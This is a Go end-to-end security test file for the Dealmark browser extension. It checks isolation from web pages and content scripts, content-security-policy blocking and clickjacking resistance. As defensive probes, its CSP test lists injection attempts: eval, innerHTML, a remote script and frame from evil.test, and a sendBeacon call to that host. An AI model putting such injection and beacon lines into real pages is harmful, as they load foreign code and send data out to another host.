//go:build !js

package e2e_test

import (
	"fmt"
	"io/fs"
	"os"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dealmark/dealmark/internal/e2e/rig"
)

// A page of the web can neither load a file of the package, by which it would
// know that Dealmark is there, nor speak to it.
func TestAWebPageReachesNothing(t *testing.T) {
	w := newWorld(t)
	var urls []string
	require.NoError(t, fs.WalkDir(os.DirFS("../../"+rig.ExtensionDir), ".", func(name string, entry fs.DirEntry, err error) error {
		if err == nil && !entry.IsDir() {
			urls = append(urls, w.ExtensionURL(name))
		}
		return err
	}))
	require.Greater(t, len(urls), 20)
	probe := `(async (urls) => {
		const got = [];
		for (const url of urls) {
			await fetch(url).then(() => got.push("fetch " + url), () => {});
			if (url.endsWith(".js")) await import(url).then(() => got.push("import " + url), () => {});
			if (/(png|svg)$/.test(url)) await new Promise((done) => {
				const image = new Image();
				image.onload = () => done(got.push("image " + url));
				image.onerror = done;
				image.src = url;
			});
		}
		return got;
	})`
	var own, foreign []string
	w.page("options.html").read(`(async (urls) => (await Promise.all(urls.map((url) => fetch(url)))).filter((a) => a.ok).map((a) => a.url))(`+string(mustJSON(urls))+`)`, &own)
	assert.Len(t, own, len(urls), "the extension's own page loads each: the addresses are right")

	site, err := w.OpenTab(w.ctx, acme) // not watched: each refusal is a complaint in its console
	require.NoError(t, err)
	require.NoError(t, site.Eval(w.ctx, probe+"("+string(mustJSON(append(urls, acme)))+")", &foreign))
	assert.Equal(t, []string{"fetch " + acme}, foreign)
	var speaks string
	require.NoError(t, site.Eval(w.ctx, `typeof globalThis.chrome?.runtime?.sendMessage`, &speaks))
	assert.Equal(t, "undefined", speaks, "nothing of it can be addressed from here")
	require.NoError(t, site.Close(w.ctx))
}

// A page that has taken over its renderer can at most be what a content script
// of Dealmark would be: such a one reads nothing that is stored, and none of its
// messages is accepted.
func TestAContentScriptReachesNothing(t *testing.T) {
	w := newWorld(t)
	popup := w.popup(acme)
	popup.known("Acme Corporation")
	var answer map[string]any
	popup.read(`chrome.runtime.sendMessage({ type: "drain" })`, &answer)
	require.Equal(t, map[string]any{"version": 1.0}, answer, "the popup's own message is accepted")

	var seen struct {
		Stored, Databases, Accepted []string
		Tried                       int
	}
	popup.read(`(async () => {
		const [tab] = await chrome.tabs.query({ active: true, currentWindow: true });
		const [answer] = await chrome.scripting.executeScript({ target: { tabId: tab.id }, func: async () => {
			const seen = { Stored: [], Databases: (await indexedDB.databases()).map(({ name }) => name), Accepted: [], Tried: 0 };
			for (const area of ["local", "session"]) {
				try {
					seen.Stored.push(area + JSON.stringify(await chrome.storage[area].get(null)));
				} catch {
					// No access, as it should be.
				}
			}
			for (const type of `+known+`.concat(["start", "__proto__", "constructor", "toString", ["drain"], null, 1, {}])) {
				for (const message of [{ type }, type, { type, url: chrome.runtime.getURL("popup.html"), id: chrome.runtime.id, origin: chrome.runtime.getURL("") }]) {
					seen.Tried++;
					await chrome.runtime.sendMessage(message).then((answer) => answer && seen.Accepted.push(JSON.stringify(message)), () => {});
				}
			}
			return seen;
		} });
		return answer.result;
	})()`, &seen)
	assert.Equal(t, 45, seen.Tried)
	assert.Empty(t, seen.Accepted)
	assert.Empty(t, seen.Stored)
	assert.Empty(t, seen.Databases)
}

// The browser itself refuses to make markup of a text, and whatever else the policy
// forbids, should the code ever try: each try is one breach.
func TestTheBrowserRefusesMarkup(t *testing.T) {
	tries := map[string]string{
		"markup of a text":     `() => { document.createElement("p").innerHTML = "<b>bold</b>"; }`,
		"a program of a text":  `() => { new Function("globalThis.ran = 1")(); }`,
		"a text evaluated":     `() => { (0, eval)("globalThis.ran = 1"); }`,
		"a policy for markup":  `() => { trustedTypes.createPolicy("any", { createHTML: (text) => text }); }`,
		"a script of the page": `() => { document.head.append(Object.assign(document.createElement("script"), { textContent: "globalThis.ran = 1" })); }`,
		"another's script":     `() => { document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.test/x.js" })); }`,
		"another's picture":    `() => { document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.test/x.png" })); }`,
		"another's style":      `() => { document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.test/x.css" })); }`,
		"a style in the page":  `() => { document.head.append(Object.assign(document.createElement("style"), { textContent: "p { color: red }" })); }`,
		"a frame":              `() => { document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.test/" })); }`,
		"another base":         `() => { document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" })); }`,
		"an unsafe address":    `() => { navigator.sendBeacon("http://evil.test/", "x"); }`,
	}
	w := newWorld(t)
	for name, open := range map[string]func() *page{
		"popup":    func() *page { return w.popup(acme) },
		"options":  func() *page { return w.page("options.html") },
		"pipeline": func() *page { return w.page("pipeline.html") },
	} {
		p := open()
		p.expects = "blocked"
		p.until(`document.readyState === "complete"`)
		var breaches map[string]int
		p.read(`(async () => {
			await new Promise((done) => setTimeout(done)); // the driver's own calls may evaluate texts
			const tries = {`+joined(tries)+`}, breaches = {};
			for (const [name, attempt] of Object.entries(tries)) {
				breaches[name] = 0;
				const count = () => breaches[name]++;
				addEventListener("securitypolicyviolation", count);
				try { await attempt(); } catch {}
				for (let i = 0; !breaches[name] && i < 200; i++) await new Promise((done) => setTimeout(done, 10));
				removeEventListener("securitypolicyviolation", count);
			}
			return breaches;
		})()`, &breaches)
		for try := range tries {
			assert.Positive(t, breaches[try], "%s: %s", name, try)
		}
		p.until(`!("ran" in globalThis)`)
		p.close()
	}
}

// joined are the members of an object.
func joined(functions map[string]string) (text string) {
	for name, function := range functions {
		text += quote(name) + ": " + function + ", "
	}
	return text
}

// A click that a page has lured to where the popup opens saves nothing and discards
// nothing. The keyboard is not kept waiting.
func TestAClickInTheFirstMomentChangesNothing(t *testing.T) {
	w := newWorld(t)
	popup := w.popup(acme)
	popup.known("Acme Corporation")
	popup.fill("#name", "Lured")
	popup.until(`!document.querySelector("#discard").hidden`)
	// click has an element clicked so long after the page began; clicks 0 is the keyboard's.
	click := func(selector string, after, clicks int) {
		popup.eval(fmt.Sprintf(`(() => {
			const click = new MouseEvent("click", { bubbles: true, cancelable: true, detail: %d });
			Object.defineProperty(click, "timeStamp", { value: %d });
			document.querySelector(%s).dispatchEvent(click);
		})()`, clicks, after, quote(selector)))
	}
	for _, after := range []int{0, 100, 299} {
		click("#submit", after, 1)
		click("#discard", after, 1)
	}
	click("#submit", 250, 2)
	popup.drain()
	assert.Equal(t, "Lured", popup.value("#name"))
	assert.Empty(t, w.writes("opportunity.create"))

	click("#submit", 100, 0)
	popup.see(done, "Created “Lured”")
	popup.fill("#name", "On purpose")
	click("#submit", 301, 1)
	popup.see(done, "Created “On purpose”")
	assert.Len(t, w.writes("opportunity.create"), 2)
}
